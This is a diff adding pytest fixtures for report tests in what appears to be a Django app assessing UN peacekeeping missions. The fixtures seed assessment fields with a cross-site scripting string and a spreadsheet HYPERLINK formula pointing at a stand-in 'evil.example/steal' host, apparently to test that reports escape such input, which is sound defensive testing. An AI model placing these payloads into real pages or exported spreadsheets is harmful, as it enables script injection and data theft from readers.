@@ -1,0 +1,44 @@
+"""Fixtures for report tests: a private reports directory and an evaluated mission."""
+
+from __future__ import annotations
+
+import pytest
+
+from assessments.models import FunctionAssessment
+from assessments.services import assessment_evaluate
+from tests import factories
+
+SCRIPT = '<script>alert("x")</script>'
+FORMULA = '=HYPERLINK("http://evil.example/steal","click me")'
+
+
+@pytest.fixture(autouse=True)
+def reports_root(settings, tmp_path):
+    """Report files go to a fresh directory per test; no delays or injected faults."""
+    settings.REPORTS_ROOT = tmp_path / "reports"
+    settings.REPORTS_TEST_STEP_DELAY = 0
+    settings.REPORTS_TEST_FAIL_WITH = ""
+    return settings.REPORTS_ROOT
+
+
+@pytest.fixture
+def monuc(db):
+    return factories.MissionFactory(
+        acronym="MONUC", name="UN Organization Mission in the DR Congo", country="DR Congo"
+    )
+
+
+@pytest.fixture
+def monuc_assessment(monuc):
+    """An evaluated MONUC assessment whose DDR desired impact holds a script and a formula."""
+    assessment = factories.AssessmentFactory(
+        mission=monuc, pooled_fund=False, agency_service_agreements=False
+    )
+    FunctionAssessment.objects.filter(assessment=assessment, function__code="ddr").update(
+        desired_impact=f"{SCRIPT} Disarm and reintegrate ex-combatants."
+    )
+    FunctionAssessment.objects.filter(assessment=assessment, function__code="ssr").update(
+        desired_impact=FORMULA
+    )
+    assessment_evaluate(assessment_id=assessment.pk)
+    return assessment
